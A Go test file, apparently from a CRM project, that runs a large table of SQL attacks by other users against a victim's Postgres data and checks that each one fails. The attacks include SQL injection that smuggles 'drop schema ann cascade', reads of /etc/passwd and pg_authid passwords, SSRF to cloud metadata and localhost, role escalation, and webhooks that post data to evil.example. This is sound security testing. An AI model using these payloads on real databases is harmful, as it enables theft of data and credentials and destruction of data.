package main

import (
	"database/sql"
	"errors"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/lib/pq"

	"github.com/yingw787/tinydevcrm-mvp/orchestrator/internal/db"
	"github.com/yingw787/tinydevcrm-mvp/orchestrator/internal/dbtest"
)

// An attack is a statement on something of ann's. She can run it herself, which shows that it has an effect: it
// changes or returns something. For others it fails, or returns nothing, and changes nothing.
type attack struct{ name, statement string }

// attackedTables each have a row of ann's, which the attacks read, change, delete and forge.
var attackedTables = []struct{ table, change, forged string }{
	{"imports", "row_count = 0", "(owner, source, mode, schema_name, table_name) values ('ann', 'forged.csv', 'create', 'ann', 't')"},
	{"import_problems", "line = 0", "(import_id, line, reason, line_text) values ({import_id}, 1, 'forged', '')"},
	{"matviews where id = {matview_id}", "notify_when = 'never'", "(relation) values ('ann.unwatched')"},
	{"matview_definitions where matview_id = {matview_id}", "is_accepted = true", ""},
	{"matview_read_names where matview_id = {matview_id}", "name = 'forged'",
		"(matview_id, relation, schema_name, name) values ({other_matview_id}, 'ann.t', 'ann', 'forged')"},
	{"dropped_matviews", "query = 'forged'",
		"(id, owner, schema_name, name, query, registration, dropped_by) values (0, 'ann', 'ann', 'forged', '', '{}', '')"},
	{"matview_baselines", "hash_sum = 99", "(matview_id, bucket, hash_sum, hashes, other_hashes) select max(matview_id), 9, 0, '{}', '{}' from public.facts"},
	{"schedules", "schedule = 'never'", "(owner, schedule, cron_schedule) values ('ann', '3 minutes', '*/3 * * * *')"},
	{"change_watches", "looked_snapshot = default",
		"(relation, schedule_id) values ('ann.staging', (select schedule_id from tinydevcrm.matviews where relation = 'ann.changing'::regclass))"},
	{"matview_refresh_events", "row_count = 0",
		"(matview_id, outcome, is_notified, row_count, duration) select matview_id, 'refreshed', true, 9, '0 s' from public.facts"},
	{"subscriptions", "max_attempts = 1", "(owner, name) values ('ann', 'forged')"},
	{"deliveries", "attempts = 0", "(owner, subscription_id, event_id) select 'ann', hook_id, first_event_id from public.facts"},
	{"webhooks", "url = 'https://evil.example/'",
		"(subscription_id, owner, url, secret) values ({subscription_id}, 'ann', 'https://evil.example/', 'whsec_' || repeat('A', 32))"},
	{"sources", "url = 'https://evil.example/'", "(owner, name, url, table_name) values ('ann', 'forged', 'https://evil.example/', 't')"},
	{"source_runs", "is_forced = true", "(source_id) values ({source_id})"},
	{"source_rows", "cells = '{forged}'", "(run_id, row_number, cells) values ({run_id}, 2, '{forged}')"},
	{"embeds where matview_id = {matview_id}", "rows = '[[\"forged\"]]'",
		"(matview_id, origins) values ({other_matview_id}, '{*}')"},
}

// attacks are all other attacks. {…} is a column of facts.
var attacks = []attack{
	{"refresh", "select from tinydevcrm.refresh_matview('ann.v')"},
	{"refresh from inside", "select from tinydevcrm.matviews, tinydevcrm._refresh_matview(matviews) where matviews.id = {matview_id}"},
	{"schedule", "select tinydevcrm.schedule_matview('ann.v', '1 minute')"},
	{"unschedule", "select tinydevcrm.unschedule_matview('ann.v')"},
	{"pause", "select tinydevcrm.pause_matview('ann.v')"},
	{"resume", "select tinydevcrm.resume_matview('ann.v')"},
	{"change the rule", "select tinydevcrm.watch_matview('ann.v', 'never')"},
	{"watch", "select tinydevcrm.watch_matview('ann.unwatched')"},
	{"alter the query", "select tinydevcrm.alter_matview_query('ann.v', 'select 2 as n')"},
	{"read the query", "select tinydevcrm.describe_matview('ann.v')"},
	{"move the registration", "update tinydevcrm.matviews set relation = 'ann.unwatched' where id = {matview_id}"},
	{"embed", "select tinydevcrm.allow_embedding('ann.other', '{*}')"},
	{"embed elsewhere", "select tinydevcrm.allow_embedding('ann.v', '{https://evil.example}')"},
	{"end the embedding", "select tinydevcrm.forbid_embedding('ann.v')"},
	{"copy the rows", "select from tinydevcrm._copy_rows({matview_id}) as copied where copied.matview_id is not null"},
	{"find the view", "select from tinydevcrm._find_matview('{ann.v}')"},
	{"find the widget", "select from tinydevcrm._find_embed('ann.v') as id where id is not null"},
	{"read the view by our statement", "select count(*) from ann.v, tinydevcrm._build_rows_statement('ann.v')"},
	{"accept its tables", "select tinydevcrm.accept_tables('ann.v')"},
	{"restore what was dropped", "select tinydevcrm.restore_matview('ann.gone')"},
	{"drop by our function", "select tinydevcrm.drop_matview('ann.v')"},
	{"drop", "drop materialized view ann.v"},
	{"drop the schema", "drop schema ann cascade"},
	{"refresh by hand", "refresh materialized view ann.v"},
	{"read the view", "select from ann.v"},
	{"read the table", "select from ann.t"},
	{"change the table", "update ann.t set n = 0"},
	{"make a view of it", "select tinydevcrm.create_matview('stolen', 'select * from ann.t')"},
	{"make a view in the schema", "select tinydevcrm.create_matview('planted', 'select 1 as n', schema_name => 'ann')"},
	{"subscribe to the view", "select tinydevcrm.create_subscription('spy', 'ann.v')"},
	{"post the view elsewhere", "select tinydevcrm.create_webhook('spy', 'https://evil.example/', 'ann.v')"},
	{"receive", "select from tinydevcrm.receive_events('mine')"},
	{"receive by number", "select from tinydevcrm._receive_deliveries({subscription_id}, 10, '1 hour')"},
	{"receive for a log", "select from tinydevcrm._receive_lines('mine', 10, '1 hour', 1000)"},
	{"acknowledge", "select from tinydevcrm.acknowledge_events(array[{delivery_id}]) as count where count > 0"},
	{"reject", "select tinydevcrm.reject_event({delivery_id})"},
	{"redeliver", "select tinydevcrm.redeliver_event({delivery_id})"},
	{"redeliver from inside", "select from tinydevcrm._requeue_deliveries(array[{delivery_id}]) as count where count > 0"},
	{"redeliver what is parked", "select tinydevcrm.redeliver_parked('mine')"},
	{"replay", "select tinydevcrm.replay_events('mine', '-infinity')"},
	{"pause the subscription", "select tinydevcrm.pause_subscription('mine')"},
	{"resume the subscription", "select tinydevcrm.resume_subscription('mine')"},
	{"drop the subscription", "select tinydevcrm.drop_subscription('mine')"},
	{"rotate the secret", "select tinydevcrm.rotate_webhook_secret('hook')"},
	{"look for webhooks", "select from tinydevcrm._list_due_webhooks()"},
	{"switch the webhook off", "do $$ begin perform tinydevcrm._disable_webhook({hook_id}, 'gone'); assert (select is_paused from tinydevcrm.subscriptions where id = {hook_id}), 'in vain'; end $$"},
	{"limit the rate of the webhook", "do $$ begin perform tinydevcrm._limit_webhook_rate({hook_id}, '1 day'); assert (select rate_limited_until is not null from tinydevcrm.webhooks where subscription_id = {hook_id}), 'in vain'; end $$"},
	{"set a digest", "select tinydevcrm.set_digest('hook', 'hourly')"},
	{"gather the deliveries", "do $$ begin update tinydevcrm.deliveries set is_gathered = true where id = {delivery_id}; assert found, 'in vain'; end $$"},
	{"hold the posts", "do $$ begin perform tinydevcrm._hold_posts({hook_id}, now() + interval '1 day'); assert (select next_post_at is not null from tinydevcrm.webhooks where subscription_id = {hook_id}), 'in vain'; end $$"},
	{"receive the posts", "select from tinydevcrm._receive_posts({hook_id}, 10, '1 hour')"},
	{"accept a post", "do $$ begin perform tinydevcrm._accept_posts(array[{subscription_id}], array[{delivery_id}]::bigint[]); assert (select acknowledged_at is not null from tinydevcrm.deliveries where id = {delivery_id}), 'in vain'; end $$"},
	{"list the deliveries", "select from tinydevcrm.latest_deliveries('mine')"},
	{"preview the table", "select tinydevcrm.preview_query('select * from ann.t')"},
	{"preview the view", "select tinydevcrm.preview_query('select * from ann.v')"},
	{"replace the table", "select tinydevcrm.begin_import('x.csv', '{n}', '{5}', mode => 'replace', table_name => 't', schema_name => 'ann')"},
	{"append to the table", "select tinydevcrm.begin_import('x.csv', '{n}', '{5}', mode => 'append', table_name => 't', schema_name => 'ann')"},
	{"import into the schema", "select tinydevcrm.begin_import('x.csv', '{n}', '{5}', table_name => 'planted', schema_name => 'ann')"},
	{"see the status", "select from tinydevcrm.matview_status where relation = (select relation from tinydevcrm.matviews where id = {matview_id})"},
	{"see the subscription", "select from tinydevcrm.subscription_status where subscription = 'mine'"},
	{"see the event as JSON", "select from tinydevcrm.matview_refresh_events as events, tinydevcrm.event_json(events) where id = {first_event_id}"},
	{"have a source fetched", "select tinydevcrm.run_source('export')"},
	{"fetch another URL", "select tinydevcrm.alter_source('export', 'https://evil.example/')"},
	{"pause a source", "select tinydevcrm.pause_source('export')"},
	{"drop a source", "select tinydevcrm.drop_source('export')"},
	{"take a run, with its secrets", "select from tinydevcrm._take_run() as taken, tinydevcrm._describe_run(taken) as described"},
	{"read the secrets of a run", "select from tinydevcrm._describe_run(jsonb_populate_record(null::tinydevcrm.source_runs, '{\"source_id\": {source_id}}')) as described"},
	{"end a run", "do $$ begin perform tinydevcrm._take_run(); perform tinydevcrm._note_unchanged({run_id}, 1); end $$"},
	{"ask for a run from inside", "do $$ begin perform tinydevcrm._request_run({source_id}, true); assert exists (select from tinydevcrm.source_runs where source_id = {source_id}), 'in vain'; end $$"},
	{"load what was fetched", "do $$ begin update tinydevcrm.source_runs set status = 'staged' where id = {run_id}; perform tinydevcrm._import_fetched({run_id}); assert (select finished_at is not null from tinydevcrm.source_runs where id = {run_id}), 'in vain'; end $$"},
	{"see the job", "select from cron.job where jobid = {job_id}"},
	{"unschedule the job", "select cron.unschedule({job_id})"},
}

// outOfBounds are attacks on the server itself, which are forbidden to every user.
var outOfBounds = []attack{
	{"name another mail server", "select tinydevcrm._note_mail_server('smtp.example.com:25')"},
	{"make a user", "select tinydevcrm.create_user('mallory', 'secret word')"},
	{"drop a user", "select tinydevcrm.drop_user('ann')"},
	{"change settings", "update tinydevcrm.settings set event_limit = 1"},
	{"run retention", "call tinydevcrm.remove_expired()"},
	{"run a schedule of ann's", "call tinydevcrm.refresh_scheduled(1)"},
	{"ask for a refresh of ann's", "insert into tinydevcrm.refresh_requests (matview_id) values ({matview_id})"},
	{"take ann's lock", "select from tinydevcrm._locks where what = 'matview' and id = {matview_id} for update"},
	{"take upkeep's lock", "select from tinydevcrm._locks where what = 'upkeep' for update"},
	{"stop pg_cron", "lock table cron.job_run_details"},
	{"end the sessions of others", "select tinydevcrm._end_blocking_sessions(1)"},
	{"run upkeep", "call tinydevcrm.settle_jobs()"},
	{"note what is late", "select tinydevcrm._note_late()"},
	{"note what is silent", "select tinydevcrm._note_silent()"},
	{"note which sources are silent", "select tinydevcrm._note_silent_sources()"},
	{"stage rows for others", "select tinydevcrm._stage_run({run_id}, 1, {import_id}, '', '')"},
	{"forget an import", "select tinydevcrm._forget_staging({import_id})"},
	{"a source that reads a file", "select tinydevcrm.create_source('x', 'file:///etc/passwd')"},
	{"a source that reads the inbox", "select tinydevcrm.create_source('x', 'file:*')"},
	{"a source that reads the metadata of the machine", "select tinydevcrm.create_source('x', 'http://169.254.169.254/')"},
	{"a source that reads the machine", "select tinydevcrm.create_source('x', 'http://127.0.0.1:5000/')"},
	{"a source into our schema", "select tinydevcrm.create_source('x', 'https://example.com/', 'settings', schema_name => 'tinydevcrm')"},
	{"wake the jobs of others", "select tinydevcrm._wake_change_jobs(null)"},
	{"notify of a change", "select tinydevcrm._notify_change()"},
	{"run the rounds of others", "call tinydevcrm._refresh_stale(2, null)"},
	{"take the owner's name", "select tinydevcrm._settle_owners()"},
	{"several statements in a query", "select tinydevcrm.create_matview('x', 'select 1 as n; drop schema ann cascade')"},
	{"a statement that ends the other", "select tinydevcrm.create_matview('x', 'select 1 as n with no data; drop schema ann cascade; select 1')"},
	{"a query that writes", "select tinydevcrm.create_matview('x', 'with gone as (delete from own returning n) select n from gone')"},
	{"a query that takes a role", "select tinydevcrm.create_matview('x', $$select set_config('role', 'postgres', false) as n$$)"},
	{"a query that takes a session", "select tinydevcrm.create_matview('x', $$select set_config('session_authorization', 'postgres', false) as n$$)"},
	{"a query that reads a file", "select tinydevcrm.create_matview('x', $$select pg_read_file('postgresql.conf') as n$$)"},
	{"a query that lists files", "select tinydevcrm.create_matview('x', $$select pg_ls_dir('.') as n$$)"},
	{"a query that imports a file", "select tinydevcrm.create_matview('x', $$select lo_import('/etc/passwd') as n$$)"},
	{"a query that reads passwords", "select tinydevcrm.create_matview('x', 'select rolpassword from pg_authid')"},
	{"a query that ends sessions", "select tinydevcrm.create_matview('x', 'select pg_terminate_backend(pid) as n from pg_stat_activity where usename = ''postgres''')"},
	{"a query that reads ann's", "select tinydevcrm.create_matview('x', 'select * from ann.t')"},
	{"an altered query that reads ann's", "select tinydevcrm.alter_matview_query('own_view', 'select * from ann.t')"},
	{"an altered query that ends the statement", "select tinydevcrm.alter_matview_query('own_view', 'select 1 as n; drop schema ann cascade')"},
	{"an altered query that takes a role", "select tinydevcrm.alter_matview_query('own_view', $$select set_config('role', 'postgres', false) as n$$)"},
	{"a registration that moves to ann's view", "update tinydevcrm.matviews set relation = 'ann.unwatched' where relation = 'own_view'::regclass"},
	{"a name that ends the statement", `select tinydevcrm.create_matview('x" as select 1; drop schema ann cascade; --', 'select * from ann.t')`},
	{"a schema that ends the statement", `select tinydevcrm.create_matview('x', 'select 1 as n', schema_name => 'ann"; drop schema ann cascade; --')`},
	{"a key that ends the statement", `select tinydevcrm.create_matview('x', 'select 1 as n', key => array['n); drop schema ann cascade; --'])`},
	{"a schedule that ends the statement", `select tinydevcrm.schedule_matview('own_view', '* * * * *''); drop schema ann cascade; --')`},
	{"a type that ends the statement", `select tinydevcrm.begin_import('x.csv', '{n}', '{5}', types => '{"n": "text); drop schema ann cascade; --"}')`},
	{"a program through copy", "copy own to program 'true'"},
	{"a file through copy", "copy own from '/etc/passwd'"},
	{"a function in Python", "create function run() returns void language plpython3u as $$ pass $$"},
	{"a role", "set role postgres"},
	{"the orchestrator's role", "set role tinydevcrm_orchestrator"},
	{"the administrator's role", "grant tinydevcrm_admin to current_user"},
	{"our schema", "create table tinydevcrm.mine (n integer)"},
	{"our functions", "create or replace function tinydevcrm._check_schema(schema_name name) returns void language sql as ''"},
	{"our triggers", "alter table tinydevcrm.matviews disable trigger all"},
	{"a key to our table", "create table keys (id bigint references tinydevcrm.matviews on delete cascade)"},
	{"a child of our table", "create table child () inherits (tinydevcrm.matviews)"},
	{"a trigger on our table", "create trigger t before insert on tinydevcrm.imports for each row execute function suppress_redundant_updates_trigger()"},
	{"a rule on our table", "create rule r as on insert to tinydevcrm.imports do instead nothing"},
	{"statistics of our table", "create statistics s on owner, source from tinydevcrm.imports"},
	{"our policies", "alter table tinydevcrm.matviews disable row level security"},
	{"a job of another's", "insert into cron.job (schedule, command, nodename, nodeport, database, username) values ('* * * * *', 'select 1', 'localhost', 5432, current_database(), 'postgres')"},
	{"another's name on a job", "update cron.job set username = 'postgres'"},
}

func TestNobodyGetsWhereTheyDoNotBelong(t *testing.T) {
	t.Parallel()
	server := dbtest.NewMigrated(t)
	super := open(t, server.URL, "postgres")
	prepareVictim(t, server.URL, super)
	// What a job does between the two looks of an attempt would look like an attack that succeeds.
	stopJobs(t, super)

	all := attacks
	for _, attacked := range attackedTables {
		name, where, _ := strings.Cut(attacked.table, " ")
		all = append(all,
			attack{"read " + name, "select from tinydevcrm." + attacked.table},
			attack{"change " + name, "update tinydevcrm." + name + " set " + attacked.change + " " + where},
			attack{"delete from " + name, "delete from tinydevcrm." + attacked.table})
		if attacked.forged != "" {
			all = append(all, attack{"forge " + name, "insert into tinydevcrm." + name + " " + attacked.forged})
		}
	}
	t.Run("administrator", func(t *testing.T) { superviseOnly(t, server.URL, super, all) })
	attempts := 0
	for _, role := range []string{"eve", "outsider"} {
		attacker := open(t, server.URL, role)
		if role == "eve" {
			dbtest.Exec(t, attacker, "create table own (n integer)")
			dbtest.Exec(t, attacker, "select tinydevcrm.create_matview('own_view', 'select n from own')")
		}
		for _, attack := range all {
			attempts++
			t.Run(role+"/"+attack.name, func(t *testing.T) { attempt(t, super, attacker, attack, "ann") })
		}
		if role == "outsider" || !dbtest.IsRented() {
			// Where users create their own jobs, they may create others.
			t.Run(role+"/a job of one's own", func(t *testing.T) {
				attempt(t, super, attacker, attack{"", "select cron.schedule('* * * * *', 'select 1')"}, "")
			})
		}
		for _, attack := range outOfBounds {
			attempts++
			t.Run(role+"/"+attack.name, func(t *testing.T) { attempt(t, super, attacker, attack, "") })
		}
	}
	if attempts < 150 {
		t.Errorf("%d attacks, want 150 at least", attempts)
	}
}

// superviseOnly runs the attacks as an administrator who is no superuser. Administrators may see everything,
// but change nothing.
func superviseOnly(t *testing.T, databaseURL string, super *sql.DB, all []attack) {
	dbtest.Exec(t, super, "select tinydevcrm.create_user('adele', 'secret word')")
	dbtest.Exec(t, super, "grant tinydevcrm_admin to adele")
	adele := open(t, databaseURL, "adele")
	maySee := func(name string) bool {
		for _, attacked := range attackedTables {
			if table, _, _ := strings.Cut(attacked.table, " "); name == "read "+table {
				return true
			}
		}
		return slices.Contains([]string{"see the status", "see the subscription", "see the event as JSON",
			"find the view", "find the widget", "read the secrets of a run"}, name)
	}
	seen := 0
	for _, attack := range all {
		t.Run(attack.name, func(t *testing.T) {
			if !maySee(attack.name) {
				attempt(t, super, adele, attack, "ann")
				return
			}
			seen++
			if count, err := inVain(adele, fillIn(t, super, attack.statement)); err != nil || count == 0 {
				t.Errorf("an administrator sees %d rows, %v", count, err)
			}
		})
	}
	if seen != len(attackedTables)+6 {
		t.Errorf("an administrator looked at %d things", seen)
	}
}

// fillIn replaces the {…} in a statement by the facts.
func fillIn(t *testing.T, super *sql.DB, statement string) string {
	t.Helper()
	rows, err := super.Query("select key, value from public.facts, jsonb_each_text(to_jsonb(facts))")
	if err != nil {
		t.Fatal(err)
	}
	defer rows.Close()
	for rows.Next() {
		var key, value string
		if err := rows.Scan(&key, &value); err != nil {
			t.Fatal(err)
		}
		statement = strings.ReplaceAll(statement, "{"+key+"}", value)
	}
	return statement
}

// attempt runs an attack in a transaction, first as its victim, to check that it has an effect.
func attempt(t *testing.T, super, attacker *sql.DB, attack attack, victim string) {
	statement := fillIn(t, super, attack.statement)
	if victim != "" {
		if count, err := inVain(super, "set local session authorization "+victim, statement); err != nil && !isDenied(err) || err == nil && count == 0 && hasCount(statement) {
			t.Fatalf("the attack has no effect: %s gets %d rows, %v", victim, count, err)
		}
	}

	before := fingerprint(t, super)
	tx, err := attacker.Begin()
	if err != nil {
		t.Fatal(err)
	}
	defer tx.Rollback()
	result, err := tx.Exec(statement)
	if err != nil {
		var refused *pq.Error
		if !errors.As(err, &refused) {
			t.Fatalf("not attempted: %v", err)
		}
		if class := refused.Code.Class(); class == "XX" || refused.Code == "42601" && victim != "" {
			t.Errorf("refused for another reason: %v", err)
		}
		return
	}
	if count, _ := result.RowsAffected(); count > 0 {
		t.Errorf("it succeeds: %d rows", count)
	}
	if err := tx.Commit(); err != nil {
		t.Fatal(err)
	}
	if after := fingerprint(t, super); after != before {
		t.Errorf("it changes what is ann's:\n%s\n%s", before, after)
	}
}

// hasCount reports whether Postgres counts the rows of a statement.
func hasCount(statement string) bool {
	verb, _, _ := strings.Cut(statement, " ")
	return verb != "drop" && verb != "refresh" && verb != "do"
}

// inVain runs a statement and rolls it back.
func inVain(pool *sql.DB, statements ...string) (int64, error) {
	tx, err := pool.Begin()
	if err != nil {
		return 0, err
	}
	defer tx.Rollback()
	var count int64
	for _, statement := range statements {
		result, err := tx.Exec(statement)
		if err != nil {
			return 0, err
		}
		count, _ = result.RowsAffected()
	}
	return count, nil
}

// isDenied reports an error that says that not even an owner may do this to our own tables.
func isDenied(err error) bool {
	var refused *pq.Error
	return errors.As(err, &refused) && (refused.Code == "42501" || refused.Code.Class() == "23")
}

// fingerprint is a hash of everything of ann's.
func fingerprint(t *testing.T, super *sql.DB) string {
	t.Helper()
	var parts []string
	for _, attacked := range attackedTables {
		name, _, _ := strings.Cut(attacked.table, " ")
		parts = append(parts, fmt.Sprintf("(select coalesce(string_agg(x::text, '|' order by x::text), '') from tinydevcrm.%s as x)", name))
	}
	return dbtest.Value[string](t, super, "select md5(concat_ws('#', "+strings.Join(parts, ", ")+
		", (select string_agg(t::text, '|') from ann.t as t), (select string_agg(job::text, '|' order by jobid) from cron.job as job)"+
		", (select string_agg(oid::text, '|' order by oid) from pg_class where relnamespace = 'ann'::regnamespace)))")
}

func open(t *testing.T, databaseURL, role string) *sql.DB {
	t.Helper()
	pool, err := db.Open(t.Context(), dbtest.AsRole(databaseURL, role), 2)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { pool.Close() })
	return pool
}

// prepareVictim creates the users, and one of each thing for ann. Their ids are in facts.
func prepareVictim(t *testing.T, databaseURL string, super *sql.DB) {
	t.Helper()
	dbtest.Exec(t, super, "select tinydevcrm.create_user(name, 'secret word') from unnest(array['ann', 'eve']) as name")
	dbtest.Exec(t, super, "create role outsider login")
	ann := open(t, databaseURL, "ann")
	for _, statement := range []string{
		"create table t as select 1 as n",
		"create table staging as select 'x'::text as c",
		"select tinydevcrm.import_staging('staging', 'imported')",
		"select tinydevcrm.create_matview('gone', 'select * from t')",
		"select tinydevcrm.drop_matview('gone')",
		"select tinydevcrm.create_matview('v', 'select * from t', 'rows_added')",
		"create materialized view unwatched as select 1 as n",
		"select tinydevcrm.create_matview('other', 'select 1 as n')",
		"select tinydevcrm.allow_embedding('v', '{https://example.com}')",
		// Not before the new year, so that nothing changes by itself.
		"select tinydevcrm.schedule_matview('v', '0 0 1 1 *')",
		"select tinydevcrm.create_matview('changing', 'select * from t', 'never')",
		"select tinydevcrm.schedule_matview('changing', 'on change')",
		"select tinydevcrm.create_subscription('mine')",
		"select tinydevcrm.create_webhook('hook', 'https://example.com/')",
		"select tinydevcrm.create_source('export', 'https://example.com/export.csv', headers => '{\"Authorization\": \"Bearer s3cret\"}')",
		"insert into t values (2)",
		"select tinydevcrm.refresh_matview('v')",
	} {
		dbtest.Exec(t, ann, statement)
	}
	dbtest.Exec(t, super, "insert into tinydevcrm.import_problems (import_id, line, reason, line_text) select id, 1, 'made up', '' from tinydevcrm.imports")
	dbtest.Exec(t, super, "insert into tinydevcrm.source_rows (run_id, row_number, cells) select id, 1, '{secret}' from tinydevcrm.source_runs")
	dbtest.Exec(t, super, `
		create table public.facts as
		select (select max(id) from tinydevcrm.imports) as import_id,
		       (select id from tinydevcrm.matviews where relation = 'ann.v'::regclass) as matview_id,
		       (select id from tinydevcrm.matviews where relation = 'ann.other'::regclass) as other_matview_id,
		       (select min(job_id) from tinydevcrm.schedules) as job_id,
		       (select id from tinydevcrm.sources) as source_id,
		       (select id from tinydevcrm.source_runs) as run_id,
		       (select id from tinydevcrm.subscriptions where name = 'mine') as subscription_id,
		       (select id from tinydevcrm.subscriptions where name = 'hook') as hook_id,
		       (select min(id) from tinydevcrm.matview_refresh_events where outcome = 'refreshed') as first_event_id,
		       (select min(id) from tinydevcrm.deliveries) as delivery_id`)
	dbtest.Exec(t, super, "grant select on public.facts to public")
}
